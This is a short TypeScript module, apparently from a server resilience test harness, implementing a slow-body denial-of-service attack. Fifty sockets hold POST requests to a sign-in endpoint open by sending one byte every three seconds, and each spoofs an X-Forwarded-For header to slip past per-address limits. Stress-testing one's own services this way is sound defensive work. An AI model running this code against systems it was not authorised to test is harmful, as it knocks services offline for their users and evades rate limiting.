import { connect } from "node:net";
import { pause } from "../kill/flow.ts";
import type { Attack } from "./attack.ts";

const SENDERS = 50;

/** Opens a call with a body that never comes to its end; resolves once the server closes it, or at the signal. */
const stall = (address: string, n: number, signal: AbortSignal): Promise<"closed" | "held"> =>
  new Promise((resolve) => {
    const { hostname, port } = new URL(address);
    const socket = connect(Number(port), hostname);
    const head = [
      "POST /api/auth/signin HTTP/1.1",
      `Host: ${hostname}:${port}`,
      `X-Forwarded-For: 203.0.113.${n % 250}`,
      "Content-Type: application/json",
      "Content-Length: 1000",
    ];
    socket.once("connect", () => socket.write(`${head.join("\r\n")}\r\n\r\n{`));
    const drip = setInterval(() => socket.write(" "), 3_000);
    const end = (how: "closed" | "held") => (): void => {
      clearInterval(drip);
      socket.destroy();
      resolve(how);
    };
    socket.once("close", end("closed"));
    socket.on("error", end("closed"));
    signal.addEventListener("abort", end("held"));
  });

/** Many calls whose bodies come one byte in three seconds. */
export const slowSenders: Attack = async (address) => async (signal) => {
  let closed = 0;
  const strike = async (n: number): Promise<void> => {
    while (!signal.aborted) {
      if ((await stall(address, n, signal)) === "closed") closed += 1;
      await pause(50);
    }
  };
  await Promise.all(Array.from({ length: SENDERS }, (_, n) => strike(n)));
  return { got: `${SENDERS} calls held open at a time, ${closed} of them closed by the server`, problems: [] };
};
